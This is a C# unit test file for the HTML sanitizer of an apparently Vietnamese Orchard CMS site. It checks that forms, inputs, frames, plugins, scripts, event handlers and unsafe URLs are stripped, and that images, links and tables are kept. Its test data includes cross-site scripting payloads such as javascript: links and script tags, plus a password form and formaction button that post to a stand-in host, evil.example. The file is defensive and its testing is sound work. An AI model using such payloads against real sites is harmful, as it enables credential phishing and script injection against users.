using DanVan.Orchard.Contents;

namespace DanVan.Orchard.Tests.Contents;

public sealed class HtmlSanitizerServiceTests
{
    private readonly HtmlSanitizerService _sanitizer = new();

    [Theory]
    [InlineData("<form action=\"https://evil.example/login\" method=\"post\"><input type=\"password\" name=\"p\"><button>Đăng nhập</button></form>")]
    [InlineData("<p>Mật khẩu: <input type=\"password\" name=\"p\"></p>")]
    [InlineData("<p><button formaction=\"https://evil.example/\">Gửi</button></p>")]
    [InlineData("<p><select name=\"s\"><option>a</option></select><textarea name=\"t\">x</textarea></p>")]
    [InlineData("<iframe src=\"https://evil.example/\"></iframe>")]
    [InlineData("<object data=\"https://evil.example/x.swf\"></object><embed src=\"https://evil.example/x.swf\">")]
    [InlineData("<p><label>Tên</label><fieldset><legend>x</legend></fieldset></p>")]
    public void Forms_controls_frames_and_plugins_are_removed(string html)
    {
        var clean = _sanitizer.Sanitize(html);

        foreach (var tag in new[] { "<form", "<input", "<button", "<select", "<option", "<textarea", "<iframe", "<object", "<embed", "<label", "<fieldset" })
        {
            Assert.DoesNotContain(tag, clean, StringComparison.OrdinalIgnoreCase);
        }

        Assert.DoesNotContain("evil.example", clean, StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("<a href=\"javascript:alert(1)\">x</a>")]
    [InlineData("<a href=\"data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;\">x</a>")]
    [InlineData("<a href=\"vbscript:msgbox(1)\">x</a>")]
    [InlineData("<img src=\"javascript:alert(1)\">")]
    [InlineData("<p onclick=\"alert(1)\">x</p><script>alert(1)</script>")]
    public void Unsafe_urls_scripts_and_handlers_are_removed(string html)
    {
        var clean = _sanitizer.Sanitize(html);

        Assert.DoesNotContain("script", clean, StringComparison.OrdinalIgnoreCase);
        Assert.DoesNotContain("alert", clean, StringComparison.Ordinal);
        Assert.DoesNotContain("onclick", clean, StringComparison.Ordinal);
    }

    [Fact]
    public void Figures_images_links_and_tables_stay()
    {
        const string html =
            "<figure><img src=\"~/media/anh/a.jpg?width=1024\" alt=\"Hội nghị\" loading=\"lazy\"><figcaption>Hội nghị</figcaption></figure>" +
            "<p><a href=\"https://danvan.example.vn/tin-tuc/a\">liên kết</a> <a href=\"/tin-tuc/b\">trong trang</a> " +
            "<a href=\"mailto:bandanvan@example.vn\">thư</a></p>" +
            "<table><thead><tr><th>Xã</th></tr></thead><tbody><tr><td>Yên Thịnh</td></tr></tbody></table>";

        var clean = _sanitizer.Sanitize(html);

        Assert.Contains("<figure><img src=\"~/media/anh/a.jpg?width=1024\" alt=\"Hội nghị\" loading=\"lazy\"><figcaption>Hội nghị</figcaption></figure>", clean);
        Assert.Contains("href=\"https://danvan.example.vn/tin-tuc/a\"", clean);
        Assert.Contains("href=\"/tin-tuc/b\"", clean);
        Assert.Contains("href=\"mailto:bandanvan@example.vn\"", clean);
        Assert.Contains("<td>Yên Thịnh</td>", clean);
    }

    [Fact]
    public void Sanitizing_twice_changes_nothing_more()
    {
        const string html = "<p><strong>Sáng 4/9</strong>, hội nghị<br>“Dân vận khéo” &amp; 98,6%</p><ul><li>a</li></ul>";

        var once = _sanitizer.Sanitize(html);

        Assert.Equal(once, _sanitizer.Sanitize(once));
    }
}
